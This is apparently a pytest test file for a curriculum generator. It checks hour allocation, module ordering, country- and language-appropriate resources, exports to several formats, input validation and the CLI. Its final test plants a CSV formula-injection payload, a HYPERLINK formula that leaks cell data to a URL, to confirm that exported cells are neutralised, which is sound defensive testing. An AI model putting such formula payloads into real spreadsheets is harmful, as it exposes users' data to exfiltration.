"""Curricula: hours add up, modules are ordered, resources fit the country and language, exports read back."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import docx
import pytest

from advisor.catalogue import DOMAINS
from advisor.curriculum import build_curriculum, validate_request
from advisor.curriculum_export import export
from advisor.errors import BadInputError
from conftest import ROOT


@pytest.fixture
def thai_hr(shipped_knowledge):
    return build_curriculum(shipped_knowledge, validate_request("hr-learning", "TH", 40))


@pytest.mark.parametrize("hours", [40, 7.3, 12, 100, 6])
def test_hours_add_up_exactly(shipped_knowledge, hours: float) -> None:
    curriculum = build_curriculum(shipped_knowledge, validate_request(["policy-maker"], "VN", hours))
    assert round(sum(m.hours for m in curriculum.modules), 6) == hours
    assert all(m.hours > 0 for m in curriculum.modules)


def test_hours_follow_the_gaps(thai_hr) -> None:
    per_gap = [m.hours / m.gap_weight for m in thai_hr.modules]
    assert max(per_gap) - min(per_gap) <= 1.0  # proportional, up to the half-hour rounding


def test_foundations_come_before_advanced_work(thai_hr) -> None:
    stages = ["advanced" in m.title for m in thai_hr.modules]
    assert stages == sorted(stages)
    seen: dict[str, int] = {}
    for module in thai_hr.modules:  # no module needs a later one
        for cid in module.competencies:
            assert module.from_level > seen.get(cid, 0)
            seen[cid] = module.to_level
    assert [m.domain for m in thai_hr.modules if "foundations" in m.title] == [
        d for d in DOMAINS if any(m.domain == d and "foundations" in m.title for m in thai_hr.modules)
    ]


def test_objectives_come_from_the_level_descriptors(shipped_knowledge, thai_hr) -> None:
    module = thai_hr.modules[0]
    cid = module.competencies[0]
    assert any(shipped_knowledge.competencies[cid].levels[1] in o for o in module.objectives)


def test_self_assessment_removes_what_the_cohort_already_knows(shipped_knowledge) -> None:
    base = build_curriculum(shipped_knowledge, validate_request("procurement", "PH", 20))
    assessed = build_curriculum(shipped_knowledge, validate_request("procurement", "PH", 20, current={"ME2": 3}))
    me2 = [m for m in assessed.modules if "ME2" in m.competencies]
    assert all(m.from_level == 4 for m in me2)
    assert {g["competency"]: g["current"] for g in assessed.gaps}["ME2"] == 3
    assert len([m for m in base.modules if "ME2" in m.competencies]) == 2


def test_resources_are_available_in_the_country(shipped_knowledge, thai_hr) -> None:
    for module in thai_hr.modules:
        for r in module.resources:
            countries = shipped_knowledge.resources[r.id].countries
            assert "TH" in countries or "*" in countries


def test_mixed_cohort_in_indonesian_gets_indonesian_resources_first(shipped_knowledge) -> None:
    request = validate_request("policy-maker,executive", "ID", 30, language="id")
    curriculum = build_curriculum(shipped_knowledge, request)
    assert curriculum.roles == ["policy-maker", "executive"]
    for module in curriculum.modules:
        flags = ["id" in r.languages for r in module.resources]
        assert flags == sorted(flags, reverse=True)  # Indonesian-language resources first
    assert any("id" in r.languages for m in curriculum.modules for r in m.resources)


def test_every_export_reads_back(shipped_knowledge, thai_hr, tmp_path: Path) -> None:
    version = shipped_knowledge.version
    markdown = export(thai_hr, shipped_knowledge, "md").decode()
    assert markdown.startswith("# Curriculum: HR and learning officer, Thailand")
    assert version in markdown
    assert thai_hr.generated_at in markdown
    rows = list(csv.DictReader(io.StringIO(export(thai_hr, shipped_knowledge, "csv").decode())))
    assert len(rows) == sum(len(m.competencies) for m in thai_hr.modules)
    assert {r["knowledge_version"] for r in rows} == {version}
    data = json.loads(export(thai_hr, shipped_knowledge, "json"))
    assert data["hours"] == 40
    assert data["knowledge_version"] == version
    assert set(data["modules"][0]) >= {
        "title",
        "domain",
        "competencies",
        "from_level",
        "to_level",
        "objectives",
        "activities",
        "assessment",
        "hours",
        "resources",
        "country_context",
    }
    path = tmp_path / "c.docx"
    path.write_bytes(export(thai_hr, shipped_knowledge, "docx"))
    document = docx.Document(str(path))
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert "Gap summary" in headings
    assert sum(h.startswith("Module ") for h in headings) == len(thai_hr.modules)
    assert len(document.tables) == 2
    assert len(document.tables[1].rows) == 25
    links = [r.target_ref for r in document.part.rels.values() if r.reltype.endswith("/hyperlink")]
    assert links
    assert all(link.startswith("https://") for link in links)
    assert version in document.sections[0].footer.paragraphs[0].text


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"roles": "astronaut"}, "unknown role 'astronaut'"),
        ({"roles": ""}, "give at least one role"),
        ({"country": "FR"}, "unknown country 'FR'"),
        ({"hours": 0}, "hours 0 is not accepted"),
        ({"hours": -5}, "hours -5 is not accepted"),
        ({"hours": 100000}, "at most 1000"),
        ({"level": 5}, "level 5 is not accepted"),
        ({"current": {"DG9": 1}}, "unknown competency 'DG9'"),
        ({"current": {"DG1": 7}}, "level 7 is not accepted"),
    ],
)
def test_bad_input_is_refused(kwargs: dict, message: str) -> None:
    params = {"roles": "hr-learning", "country": "TH", "hours": 40} | kwargs
    with pytest.raises(BadInputError, match=message):
        validate_request(**params)


def test_too_few_hours_for_the_modules_is_explained(shipped_knowledge) -> None:
    with pytest.raises(BadInputError, match="too little for"):
        build_curriculum(shipped_knowledge, validate_request("executive", "SG", 1))


@pytest.mark.parametrize("fmt", ["md", "csv", "json", "docx"])
def test_cli_writes_each_format(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"c.{fmt}"
    assessment = tmp_path / "cohort.yaml"
    assessment.write_text("DG1: 2\nME3: 1\n", encoding="utf-8")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "advisor",
            "curriculum",
            "--role",
            "hr-learning",
            "--country",
            "TH",
            "--hours",
            "40",
            "--self-assessment",
            str(assessment),
            "--format",
            fmt,
            "-o",
            str(out),
        ],
        cwd=ROOT,
        env=dict(os.environ),
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert out.stat().st_size > 1000


def test_cli_bad_hours_exit_2() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "advisor", "curriculum", "--role", "hr-learning", "--country", "TH", "--hours", "0"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 2
    assert result.stderr.strip().count("\n") == 0
    assert "hours 0 is not accepted" in result.stderr


def test_csv_export_neutralises_formula_cells(shipped_knowledge, thai_hr) -> None:
    # Titles and objectives come from the knowledge base and from edits: none may run in a spreadsheet.
    module = thai_hr.modules[0]
    module.title = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
    module.objectives = [f"-1+2 {o}" for o in module.objectives]
    text = export(thai_hr, shipped_knowledge, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    first = rows[0]
    assert first["module_title"] == "'" + module.title
    assert first["objectives"].startswith("'-1+2 ")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
